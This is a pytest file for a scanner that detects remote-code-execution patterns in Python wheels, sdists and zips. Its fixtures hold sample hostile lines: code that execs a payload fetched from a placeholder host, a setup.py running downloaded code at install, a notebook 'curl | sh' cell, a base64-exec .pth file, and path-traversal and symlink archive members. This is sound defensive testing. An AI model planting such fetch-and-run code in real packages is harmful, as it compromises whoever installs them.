"""Package archives (wheels, sdists, zips): read in memory, analysed as one project, reported as
``archive!/member``. Every archive is built here, in tmp_path, with zipfile/tarfile."""
from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from pathlib import Path
from typing import Dict, List, Set, Tuple

import pytest

import rceguard.frontends.archive as archive_mod
from rceguard.config import Config
from rceguard.report import render
from rceguard.scan import scan
from test_cases import expectations

PROJECT = Path(__file__).parent / "cases" / "projects" / "telemetry_sdk"
WHEELS = Path(os.environ.get("RCEGUARD_WHEELS", Path(__file__).parent.parent / ".wheels"))
REMOTE = "import urllib.request\nexec(urllib.request.urlopen('https://x.example/p').read())\n"


def _wheel(path: Path, members: Dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, text in members.items():
            z.writestr(name, text)
    return path


def _tar(path: Path, members: List[tarfile.TarInfo], data: Dict[str, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as t:
        for ti in members:
            body = data.get(ti.name)
            if body is not None:
                ti.size = len(body)
            t.addfile(ti, io.BytesIO(body) if body is not None else None)
    return path


def _file(name: str) -> tarfile.TarInfo:
    return tarfile.TarInfo(name)


def _project_members() -> Dict[str, str]:
    src = PROJECT / "src"
    return {p.relative_to(src).as_posix(): p.read_text() for p in sorted(src.rglob("*.py"))}


def _expected(prefix: str) -> Set[Tuple[str, int, str]]:
    src = PROJECT / "src"
    return {(f"{prefix}{p.relative_to(src).as_posix()}", line, tok)
            for p in src.rglob("*.py") for line, tok in expectations(p)}


def _got(result) -> Set[Tuple[str, int, str]]:
    return {(f.location.path, f.location.line, f.rule_id) for f in result.findings}


def test_wheel_of_a_realistic_project_cross_module(tmp_path: Path) -> None:
    """The labelled project, packed as a wheel: the same findings, at archive!/member paths, and
    the flow crosses members (relative imports resolve inside the archive)."""
    members = _project_members()
    members["telemetry_sdk-0.9.0.dist-info/METADATA"] = "Name: telemetry-sdk\n"
    whl = _wheel(tmp_path / "telemetry_sdk-0.9.0-py3-none-any.whl", members)
    before = sorted(os.listdir(tmp_path))
    result = scan([whl], Config())
    assert sorted(os.listdir(tmp_path)) == before  # nothing extracted
    assert _got(result) == _expected("telemetry_sdk-0.9.0-py3-none-any.whl!/") and result.notices == []
    (f,) = result.findings
    assert any(s.location.path.endswith("!/telemetry_sdk/transport.py") for s in f.steps)
    assert result.files_scanned == 4
    text = render("text", result)
    assert "telemetry_sdk-0.9.0-py3-none-any.whl!/telemetry_sdk/client.py:20:9: RCE001" in text
    assert json.loads(render("json", result))["findings"][0]["location"]["path"] == f.location.path


def test_sdist_layout_setup_py_and_backend(tmp_path: Path) -> None:
    data = {f"telemetry-sdk-0.9.0/src/{k}": v.encode() for k, v in _project_members().items()}
    data["telemetry-sdk-0.9.0/setup.py"] = b"import os, urllib.request\nos.system(urllib.request.urlopen('u').read())\n"
    data["telemetry-sdk-0.9.0/pyproject.toml"] = b'[build-system]\nbuild-backend = "be"\nbackend-path = ["tools"]\n'
    data["telemetry-sdk-0.9.0/tools/be.py"] = REMOTE.encode()
    sdist = _tar(tmp_path / "telemetry-sdk-0.9.0.tar.gz", [_file(n) for n in data], data)
    result = scan([sdist], Config())
    prefix = "telemetry-sdk-0.9.0.tar.gz!/telemetry-sdk-0.9.0/"
    got = {(f.location.path, f.rule_id): f.message for f in result.findings}
    assert got.keys() == {(prefix + "src/telemetry_sdk/client.py", "RCE001"), (prefix + "setup.py", "RCE006"),
                          (prefix + "tools/be.py", "RCE001")}
    assert "runs at install time (setup.py command)" in got[(prefix + "setup.py", "RCE006")]
    assert "install time (in-tree build backend" in got[(prefix + "tools/be.py", "RCE001")]


def test_malicious_member_paths_links_and_devices_are_refused(tmp_path: Path) -> None:
    link = _file("pkg-1.0/pkg/link.py")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    hard = _file("pkg-1.0/pkg/hard.py")
    hard.type, hard.linkname = tarfile.LNKTYPE, "pkg-1.0/pkg/ok.py"
    dev = _file("pkg-1.0/dev0")
    dev.type = tarfile.CHRTYPE
    data = {"../../outside.py": REMOTE.encode(), "/abs/evil.py": REMOTE.encode(), "pkg-1.0/pkg/ok.py": b"x = 1\n"}
    sdist = _tar(tmp_path / "pkg-1.0.tar.gz", [_file(n) for n in data] + [link, hard, dev], data)
    z = _wheel(tmp_path / "pkg-1.0-py3-none-any.whl",
               {"../evil.py": REMOTE, "C:/win.py": REMOTE, "pkg/ok.py": "x = 1\n"})
    result = scan([sdist, z], Config())
    assert result.findings == []  # the refused members were never read
    msgs = {n.path: n.message for n in result.notices}
    assert "'..' component" in msgs["pkg-1.0.tar.gz!/../../outside.py"]
    assert "absolute path" in msgs["pkg-1.0.tar.gz!//abs/evil.py"]
    assert "symbolic link member" in msgs["pkg-1.0.tar.gz!/pkg-1.0/pkg/link.py"]
    assert "hard link member" in msgs["pkg-1.0.tar.gz!/pkg-1.0/pkg/hard.py"]
    assert "device or FIFO" in msgs["pkg-1.0.tar.gz!/pkg-1.0/dev0"]
    assert "'..' component" in msgs["pkg-1.0-py3-none-any.whl!/../evil.py"]
    assert "absolute path" in msgs["pkg-1.0-py3-none-any.whl!/C:/win.py"]
    assert not (tmp_path.parent / "outside.py").exists() and not (tmp_path / "evil.py").exists()
    assert result.files_scanned == 2


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_size_caps_and_duplicates(tmp_path: Path, monkeypatch) -> None:
    z = tmp_path / "p.zip"
    with zipfile.ZipFile(z, "w") as zf:
        zf.writestr("p/big.py", "x = 1\n" * 100)
        zf.writestr("p/a.py", "y = 2\n")
        zf.writestr("p/a.py", REMOTE)  # a second copy under the same name: installers keep the last
    monkeypatch.setattr(archive_mod, "MEMBER_MAX", 100)
    result = scan([z], Config())
    msgs = {n.path: n.message for n in result.notices}
    assert msgs["p.zip!/p/big.py"].startswith("member too large to analyse")
    assert "appears twice" in msgs["p.zip!/p/a.py"]
    assert [f.location.path for f in result.findings] == ["p.zip!/p/a.py"]
    monkeypatch.setattr(archive_mod, "TOTAL_MAX", 10)
    result = scan([z], Config())
    assert any("bytes of code; the members after that point are not read" in n.message for n in result.notices)


def test_bad_archive_is_one_notice_and_the_run_goes_on(tmp_path: Path) -> None:
    (tmp_path / "broken-1.0-py3-none-any.whl").write_bytes(b"PK\x03\x04 not really a zip")
    (tmp_path / "broken-1.0.tar.gz").write_bytes(b"\x1f\x8b\x08\x00garbage")
    good = tmp_path / "bad.py"
    good.write_text(REMOTE)
    result = scan([tmp_path / "broken-1.0-py3-none-any.whl", tmp_path / "broken-1.0.tar.gz", good], Config())
    assert [f.location.path for f in result.findings] == ["bad.py"]
    assert {n.path for n in result.notices} == {"broken-1.0-py3-none-any.whl", "broken-1.0.tar.gz"}
    assert all("\n" not in n.message for n in result.notices)


def test_notebooks_and_pth_inside_a_wheel(tmp_path: Path) -> None:
    nb = {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": ["!curl -s http://x/i | sh\n"]}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    whl = _wheel(tmp_path / "w-1-py3-none-any.whl", {
        "w/demo.ipynb": json.dumps(nb, indent=1), "w-init.pth": "import base64;exec(base64.b64decode('eA=='))\n",
        "w-1.data/purelib/w2/__init__.py": "from .m import f\n", "w-1.data/purelib/w2/m.py": "def f(): pass\n"})
    result = scan([whl], Config())
    got = sorted((f.location.path, f.rule_id, f.location.label) for f in result.findings)
    assert got == [("w-1-py3-none-any.whl!/w-init.pth", "RCE005", ""),
                   ("w-1-py3-none-any.whl!/w/demo.ipynb", "RCE004", "cell 1:1:21")]  # the pipe into sh
    assert "every interpreter start-up" in next(f.message for f in result.findings if f.rule_id == "RCE005")


def test_sarif_nests_the_member_in_the_archive(tmp_path: Path) -> None:
    whl = _wheel(tmp_path / "t-1-py3-none-any.whl", _project_members())
    doc = json.loads(render("sarif", scan([whl], Config())))
    run = doc["runs"][0]
    (res,) = run["results"]
    outer = res["locations"][0]["physicalLocation"]["artifactLocation"]
    assert outer["uri"] == "t-1-py3-none-any.whl" and run["artifacts"][outer["index"]]["location"]["uri"] == outer["uri"]
    inner = res["relatedLocations"][0]["physicalLocation"]
    art = run["artifacts"][inner["artifactLocation"]["index"]]
    assert art["location"]["uri"] == "telemetry_sdk/client.py" and art["parentIndex"] == outer["index"]
    assert inner["region"]["startLine"] == 20
    assert "In the archive: telemetry_sdk/client.py:20:9." in res["message"]["text"]
    steps = res["codeFlows"][0]["threadFlows"][0]["locations"]
    assert {run["artifacts"][s["location"]["physicalLocation"]["artifactLocation"]["index"]]["parentIndex"]
            for s in steps} == {outer["index"]}
    try:
        from test_report_sarif import assert_valid
        assert_valid(doc)
    except pytest.skip.Exception:
        pass


def test_real_wheel_coiled(tmp_path: Path) -> None:
    """The seed module, scanned inside its real wheel: the same two findings as scanning the file."""
    cands = sorted(WHEELS.glob("coiled-1.135.6-*.whl"))
    if not cands:
        pytest.skip(f"coiled wheel not downloaded into {WHEELS}")
    result = scan([cands[0]], Config())
    bad = sorted((f.location.path.partition("!/")[2], f.location.line) for f in result.findings
                 if f.location.path.endswith("coiled/analytics.py") and f.level == "error")
    assert bad == [("coiled/analytics.py", 50), ("coiled/analytics.py", 233)]
